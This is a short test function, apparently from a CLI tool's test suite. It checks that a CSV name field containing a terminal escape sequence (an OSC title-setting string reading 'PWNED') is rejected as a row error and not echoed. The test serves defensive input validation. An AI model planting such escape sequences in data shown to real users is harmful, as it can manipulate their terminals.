def test_a_control_character_in_a_short_list_is_a_row_problem(runner, in_tmp):
    (in_tmp / "list.csv").write_bytes(b"name\nAnn\x1b]0;PWNED\x07\nBo\n")
    result = batch_run(runner, in_tmp / "list.csv")
    assert result.exit_code == 3, result.output
    assert "list.csv row 2: name: contains the control character U+001B" in result.stderr
    assert "\x1b" not in result.output
